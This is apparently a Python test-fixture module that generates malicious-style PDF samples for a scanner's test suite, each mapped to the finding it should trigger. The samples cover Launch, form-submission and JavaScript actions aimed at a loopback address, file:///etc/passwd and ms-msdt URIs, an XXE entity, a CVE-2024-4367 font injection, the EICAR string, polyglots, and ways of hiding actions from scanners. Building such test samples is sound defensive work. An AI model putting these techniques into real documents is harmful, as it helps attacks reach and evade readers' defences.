"""PDFs that act on whoever opens them: each kind, each place, and each way to hide it.

Made here, after the kinds that public collections of such files name. All of them show
the letter of tests.services.pdf.samples, and none of them does any harm.
"""

import io
import tarfile
import zipfile
from collections.abc import Callable
from functools import partial
from typing import Final

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from services.pdf.report import Finding
from tests.services.pdf import clamd
from tests.services.pdf.samples import changed, letter, locked

# No server answers there; a test that listens uses an address of its own.
NOWHERE: Final = "http://127.0.0.1:9"
_UNC: Final = "\\\\127.0.0.1\\share\\x.pdf"

Action = Callable[[str], Dictionary]
Attack = Callable[[str], bytes]
Attacks = dict[str, tuple[Attack, set[Finding]]]


def _file(address: str) -> Dictionary:
    return Dictionary(
        Type=Name.Filespec, FS=Name.URL, F=String(f"{address}/x.pdf"), V=True
    )


def _to_file(kind: str, **more: object) -> Action:
    return lambda address: Dictionary(S=Name(kind), F=_file(address), **more)


def _to_share(kind: str) -> Action:
    return lambda _: Dictionary(S=Name(kind), F=String(_UNC), D=Array([0, Name.Fit]))


def _to_address(written: str) -> Action:
    return lambda address: Dictionary(
        S=Name.URI, URI=String(written.format(address=address))
    )


def _running(script: str) -> Action:
    return lambda address: Dictionary(
        S=Name.JavaScript, JS=String(script.format(address=address))
    )


ACTIONS: Final[dict[str, tuple[Action, Finding]]] = {
    "GoToE": (_to_file("/GoToE", D=Array([0, Name.Fit])), "other_files"),
    "GoToE of a share": (_to_share("/GoToE"), "other_files"),
    "GoToR": (_to_file("/GoToR", D=Array([0, Name.Fit])), "other_files"),
    "GoToR of a share": (_to_share("/GoToR"), "other_files"),
    "Thread": (_to_file("/Thread", D=0), "other_files"),
    "Launch": (_to_file("/Launch"), "launch"),
    "Launch that prints": (
        lambda _: Dictionary(
            S=Name.Launch, Win=Dictionary(F=String(_UNC), O=String("print"))
        ),
        "launch",
    ),
    "URI": (_to_address("{address}/x"), "uri_actions"),
    "URI of a file": (_to_address("file:///etc/passwd"), "uri_actions"),
    "URI of a share": (_to_address(_UNC), "uri_actions"),
    "URI that is a script": (_to_address("\tJava\nScript:alert(1)"), "uri_actions"),
    "URI that is a page": (_to_address("data:text/html,x"), "uri_actions"),
    "URI of a program": (_to_address("ms-msdt:/id x"), "uri_actions"),
    "SubmitForm": (_to_file("/SubmitForm", Flags=4), "form_submission"),
    "SubmitForm of all": (_to_file("/SubmitForm", Flags=256), "form_submission"),
    "ImportData": (_to_file("/ImportData"), "data_import"),
    "JavaScript": (_running("app.launchURL('{address}')"), "scripts"),
    "JavaScript that submits": (_running("this.submitForm('{address}')"), "scripts"),
    "Rendition": (
        lambda _: Dictionary(S=Name.Rendition, OP=0, JS=String("x()")),
        "scripts",
    ),
}


def _on_opening(pdf: Pdf, action: Dictionary) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(action)


def _on_a_page(pdf: Pdf, action: Dictionary) -> None:
    pdf.pages[0].AA = Dictionary(O=action)


def _on_showing_a_note(pdf: Pdf, action: Dictionary) -> None:
    note = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Screen,
        Rect=Array([9, 9, 99, 99]),
        AA=Dictionary(PV=action),
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])


def _on_a_click(pdf: Pdf, action: Dictionary) -> None:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([9, 9, 99, 99]), A=action
    )
    pdf.pages[0].Annots = Array([link])


def _on_typing_into_a_field(pdf: Pdf, action: Dictionary) -> None:
    field = Dictionary(
        FT=Name.Tx, T=String("a"), AA=Dictionary(K=pdf.make_indirect(action))
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def _after_another_action(pdf: Pdf, action: Dictionary) -> None:
    last = Dictionary(S=Name.Named, N=Name.Print, Next=pdf.make_indirect(action))
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([last])
    )


PLACES: Final = (
    _on_opening,
    _on_a_page,
    _on_showing_a_note,
    _on_typing_into_a_field,
    _after_another_action,
    _on_a_click,
)


def _placed(
    address: str,
    action: Action,
    place: Callable[[Pdf, Dictionary], None] = _on_opening,
    **saving: object,
) -> bytes:
    return changed(lambda pdf: place(pdf, action(address)), **saving)


# A file can be packed, encrypted and spelt in ways that every reader accepts.


def _in_object_streams(address: str, action: Action) -> bytes:
    streams = pikepdf.ObjectStreamMode.generate
    return _placed(address, action, object_stream_mode=streams)


def _locked_for_nobody(address: str, action: Action) -> bytes:
    locking = pikepdf.Encryption(owner="owner", user="")
    streams = pikepdf.ObjectStreamMode.generate
    return _placed(address, action, encryption=locking, object_stream_mode=streams)


def _locked(address: str, action: Action) -> bytes:
    """Encrypt with a password unknown here: the actions' names are not encrypted."""
    return _placed(
        address, action, encryption=pikepdf.Encryption(owner="owner", user="sesame")
    )


def _spelt(written: bytes, kind: Name) -> bytes:
    name = kind.unparse()
    spelt = b"/" + b"".join(b"#%02x" % letter for letter in name[1:])
    return written.replace(b"/S " + name, b"/S " + spelt)


def _spelt_out(address: str, action: Action) -> bytes:
    return _spelt(_placed(address, action), action(address).S)


def _by_a_name_of_its_own(address: str, action: Action) -> bytes:
    """Put the action's kind into an object of its own."""

    def change(pdf: Pdf) -> None:
        made = action(address)
        made.S = pdf.make_indirect(made.S)
        _on_opening(pdf, made)

    return changed(change)


def _inside_another(address: str, action: Action) -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.attachments["inner.pdf"] = _placed(address, action)

    return changed(change)


def locked_inside_another(_: str) -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.attachments["inner.pdf"] = locked()

    return changed(change)


def _beside_a_broken_form(address: str, action: Action) -> bytes:
    """A damaged part of a file does not hide the others."""

    def change(pdf: Pdf) -> None:
        form = pdf.make_stream(b"")
        form.write(b"no such thing", filter=Name.FlateDecode)
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=form)
        _on_opening(pdf, action(address))

    streams = pikepdf.ObjectStreamMode.generate
    return changed(change, object_stream_mode=streams)


def _said_twice(address: str, action: Action) -> bytes:
    """Name the action twice: one reader uses the first, another the last."""
    written = _spelt(action(address).unparse(), action(address).S)
    link = b"/Type /Catalog /OpenAction %s /OpenAction << /S /Named /N /Print >>"
    return letter().replace(b"/Type /Catalog", link % written, 1)


def _behind_the_end(address: str, action: Action) -> bytes:
    """Put the action after the table: only a reader that repairs the file finds it."""
    written = action(address).unparse()
    opening = b"<< /Type /Catalog /Pages 1 0 R /OpenAction %s >>" % written
    return letter() + b"99 0 obj\n%s\nendobj\ntrailer << /Root 99 0 R >>\n" % opening


HIDINGS: Final = (_in_object_streams, _locked_for_nobody)
# In these a kind is found by its name alone, so only where no other kind shares it.
HIDINGS_OF_A_NAME: Final = (
    _spelt_out,
    _by_a_name_of_its_own,
    _said_twice,
    _behind_the_end,
)
_NAMED: Final = frozenset(
    {"GoToE", "GoToR", "Thread", "Launch", "SubmitForm", "ImportData", "JavaScript"}
)


# Content that is elsewhere, or claims to be.


def _with_page_part(address: str, **facts: object) -> bytes:
    """A page that draws one more part, whose content is not in the file."""

    def change(pdf: Pdf) -> None:
        part = pdf.make_stream(b"", Type=Name.XObject, **facts)
        page = pdf.pages[0]
        page.Resources.XObject = Dictionary(P=part)
        page.contents_add(b"q 600 0 0 800 0 0 cm /P Do Q")

    return changed(change)


def external_picture(address: str) -> bytes:
    return _with_page_part(
        address,
        Subtype=Name.Image,
        Width=1,
        Height=1,
        BitsPerComponent=8,
        ColorSpace=Name.DeviceGray,
        F=_file(address),
        FFilter=Name.DCTDecode,
    )


def external_share(_: str) -> bytes:
    return _with_page_part(
        _, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]), F=String(_UNC)
    )


def reference_to_a_page(address: str) -> bytes:
    reference = Dictionary(F=_file(address), Page=0)
    return _with_page_part(
        address, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]), Ref=reference
    )


def external_contents(address: str) -> bytes:
    def change(pdf: Pdf) -> None:
        external = pdf.make_stream(b"", F=_file(address))
        page = pdf.pages[0]
        page.Contents = Array([page.Contents, external])

    return changed(change)


def external_film(address: str) -> bytes:
    def change(pdf: Pdf) -> None:
        note = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Movie,
            Rect=Array([9, 9, 99, 99]),
            Movie=Dictionary(F=_file(address)),
            A=True,
        )
        pdf.pages[0].Annots = Array([note])

    return changed(change)


def clip(address: str, *, is_inside: bool = False) -> bytes:
    def change(pdf: Pdf) -> None:
        file = _file(address)
        if is_inside:
            file.EF = Dictionary(F=pdf.make_stream(b"film"))
        media = Dictionary(S=Name.MR, C=Dictionary(S=Name.MCD, D=file))
        _on_opening(pdf, Dictionary(S=Name.Rendition, OP=0, R=media))

    return changed(change)


# The other kind of forms: XML next to the pages.

_SUBMITTING: Final = (
    '<template><event activity="docReady"><submit target="{address}"/></event>'
    "</template>"
)
_STYLED: Final = '<?xml-stylesheet href="{address}/x.xslt" type="text/xsl"?><xdp/>'
_SCRIPTED: Final = (
    "<template><x:script contentType='application/x-formcalc'>"
    'Post("{address}", "x")</x:script></template>'
)
_ENTITY: Final = '<!DOCTYPE x [<!ENTITY y SYSTEM "{address}">]><xdp>&y;</xdp>'


def xfa(written: str, address: str, *, encoding: str = "utf-8", cut: int = 0) -> bytes:
    form = written.format(address=address).encode(encoding)

    def change(pdf: Pdf) -> None:
        packets = Array([String("a"), pdf.make_stream(form[:cut])])
        packets.extend([String("b"), pdf.make_stream(form[cut:])])
        whole = packets if cut else pdf.make_stream(form)
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=whole)

    return changed(change)


# Scripts without an action.


def script_in_a_tree(address: str) -> bytes:
    script = Dictionary(JS=String(f"fetch('{address}')"))
    tree = Dictionary(Names=Array([String("a"), script]))
    return changed(
        lambda pdf: pdf.Root.__setattr__("Names", Dictionary(JavaScript=tree))
    )


def script_of_a_model(_: str) -> bytes:
    def change(pdf: Pdf) -> None:
        script = pdf.make_stream(b"console.println(1)")
        model = pdf.make_stream(b"U3D", Type=Name("/3D"), OnInstantiate=script)
        note = Dictionary(Subtype=Name("/3D"), Rect=Array([9, 9, 99, 99]))
        note[Name("/3DD")] = model
        pdf.pages[0].Annots = Array([note])

    return changed(change)


def script_in_a_font(_: str) -> bytes:
    """CVE-2024-4367: text among the numbers of a font."""

    def change(pdf: Pdf) -> None:
        matrix = Array([1, 2, 3, 4, 5, String("0\\); alert\\(1")])
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, FontMatrix=matrix)
        pdf.pages[0].Resources.Font[Name.F99] = pdf.make_indirect(font)

    return changed(change)


def link_over_all(address: str) -> bytes:
    """Cover the page with a link, so that every click follows it."""

    def change(pdf: Pdf) -> None:
        note = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            H=Name.N,
            Rect=pdf.pages[0].MediaBox,
            A=_to_address("{address}")(address),
        )
        pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

    return changed(change)


# The test virus: in the file as it is, packed, spelt, encrypted.


def virus_in_a_comment(_: str) -> bytes:
    return letter() + b"%" + clamd.EICAR + b"\n"


def virus_in_a_stream(_: str, **saving: object) -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.Root.Virus = pdf.make_stream(clamd.EICAR * 4)

    return changed(change, compress_streams=True, **saving)


def virus_in_a_locked_text(_: str) -> bytes:
    locking = pikepdf.Encryption(owner="owner", user="")
    return changed(
        lambda pdf: pdf.docinfo.__setitem__("/Subject", String(clamd.EICAR.decode())),
        encryption=locking,
    )


def virus_in_two_packings(_: str) -> bytes:
    def change(pdf: Pdf) -> None:
        packed = pdf.make_stream(b"")
        written = b"".join(b"%02x" % byte for byte in clamd.EICAR) + b">"
        packed.write(written, filter=Name.ASCIIHexDecode)
        pdf.Root.Virus = packed

    return changed(change)


def virus_in_a_text(_: str) -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.docinfo["/Subject"] = String(clamd.EICAR.decode())

    return changed(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


# Files that are of two kinds at once.

_BEGINNINGS: Final = {
    "a picture (GIF)": b"GIF89a\x01\x00\x01\x00",
    "a picture (JPEG)": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "a picture (PNG)": b"\x89PNG\r\n\x1a\n",
    "a program (PE)": b"MZ\x90\x00\x03",
    "a program (ELF)": b"\x7fELF\x02\x01\x01",
    "a program (shell)": b"#!/bin/sh\nexit\n",
    "a page": b"<html><script>alert(1)</script>\n",
    "a page of PHP": b"<?php phpinfo(); ?>\n",
    "an archive (RAR)": b"Rar!\x1a\x07\x00",
}


def _behind(beginning: bytes, _: str) -> bytes:
    return beginning + letter()


def _page_behind_the_header(_: str) -> bytes:
    page = b"<!DOCTYPE html><script>alert(1)</script>\n"
    return letter().replace(b"\n", b"\n" + page, 1)


def _before_archive(_: str) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as files:
        files.writestr("x.js", "alert(1)")
    return letter() + archive.getvalue()


def _in_archive(_: str) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as files:
        files.writestr("x.pdf", letter())
    return archive.getvalue()


def _in_tape_archive(_: str) -> bytes:
    """The name of the archive's first file is the header of a PDF."""
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as files:
        member = tarfile.TarInfo("%PDF-1.7\n%")
        member.size = len(letter())
        files.addfile(member, io.BytesIO(letter()))
    return archive.getvalue()


def _in_medical_image(_: str) -> bytes:
    preamble = b"%PDF-1.7\n".ljust(128, b"%") + b"DICM\n"
    return preamble + letter().partition(b"\n")[2]


def _on_a_disc(_: str) -> bytes:
    """Put the mark of a disc image into a comment, where disc images have it."""
    header, _, rest = letter().partition(b"\n")
    return (header + b"\n%").ljust(32769, b"x") + b"CD001\n" + rest


def _page_behind_the_end(_: str) -> bytes:
    return letter() + b"<script>alert(1)</script>"


def _program_behind_the_end(_: str) -> bytes:
    return letter() + b"MZ\x90\x00" + b"\x01" * 2000


def _program_between_two_ends(_: str) -> bytes:
    return _program_behind_the_end(_) + b"\n%%EOF\n"


def _with(*made: tuple[str, Attack, set[Finding]]) -> Attacks:
    return {name: (attack, findings) for name, attack, findings in made}


def _placed_everywhere() -> Attacks:
    return {
        f"{name} {place.__name__}": (
            partial(_placed, action=action, place=place),
            {finding},
        )
        for name, (action, finding) in ACTIONS.items()
        for place in PLACES
        # A link to click on, as any letter may have.
        if (name, place) != ("URI", _on_a_click)
    }


def _hidden() -> Attacks:
    return {
        f"{name} {hiding.__name__}": (partial(hiding, action=action), {finding, *also})
        for name, (action, finding) in ACTIONS.items()
        for hiding, also in (
            *((hiding, ()) for hiding in HIDINGS),
            *((hiding, ()) for hiding in HIDINGS_OF_A_NAME if name in _NAMED),
            *((_locked, ("encrypted",)) for _ in range(name in _NAMED)),
            (_inside_another, ("attachments",)),
            (_beside_a_broken_form, ("xfa",)),
        )
    }


ATTACKS: Final[Attacks] = (
    _placed_everywhere()
    | _hidden()
    | {
        f"a PDF behind {name}": (partial(_behind, beginning), {"polyglot"})
        for name, beginning in _BEGINNINGS.items()
    }
    | _with(
        ("a picture elsewhere", external_picture, {"external_streams"}),
        ("a drawing on a share", external_share, {"external_streams"}),
        ("a page of another file", reference_to_a_page, {"external_streams"}),
        ("contents elsewhere", external_contents, {"external_streams"}),
        ("a film elsewhere", external_film, {"external_streams"}),
        ("a clip elsewhere", clip, {"external_streams"}),
        ("a locked PDF inside", locked_inside_another, {"attachments"}),
        ("a clip inside", partial(clip, is_inside=True), {"attachments"}),
        ("XFA that submits", partial(xfa, _SUBMITTING), {"xfa"}),
        ("XFA with a style", partial(xfa, _STYLED), {"xfa"}),
        ("XFA with an entity", partial(xfa, _ENTITY), {"xfa"}),
        ("XFA with a script", partial(xfa, _SCRIPTED), {"xfa", "scripts"}),
        ("XFA cut in a script", partial(xfa, _SCRIPTED, cut=14), {"xfa", "scripts"}),
        (
            "XFA in UTF-16",
            partial(xfa, _SCRIPTED, encoding="utf-16"),
            {"xfa", "scripts"},
        ),
        ("a script in a tree", script_in_a_tree, {"scripts"}),
        ("a script of a model", script_of_a_model, {"scripts"}),
        ("a script in a font", script_in_a_font, {"scripts"}),
        ("a link over all", link_over_all, {"uri_actions"}),
        ("a virus in a comment", virus_in_a_comment, {"eicar"}),
        ("a virus in a stream", virus_in_a_stream, {"eicar"}),
        ("a virus in two packings", virus_in_two_packings, {"eicar"}),
        ("a virus in a locked text", virus_in_a_locked_text, {"eicar"}),
        ("a virus in a text", virus_in_a_text, {"eicar"}),
        (
            "a locked virus",
            partial(
                virus_in_a_stream,
                encryption=pikepdf.Encryption(owner="owner", user=""),
            ),
            {"eicar"},
        ),
        ("a page behind the header", _page_behind_the_header, {"polyglot"}),
        ("a PDF before an archive", _before_archive, {"polyglot"}),
        ("a PDF in an archive", _in_archive, {"polyglot"}),
        ("a PDF in a tape archive", _in_tape_archive, {"polyglot"}),
        ("a PDF in a medical image", _in_medical_image, {"polyglot"}),
        ("a PDF on a disc", _on_a_disc, {"polyglot"}),
        ("a page behind the end", _page_behind_the_end, {"polyglot"}),
        ("a program behind the end", _program_behind_the_end, {"polyglot"}),
        ("a program between two ends", _program_between_two_ends, {"polyglot"}),
    )
)
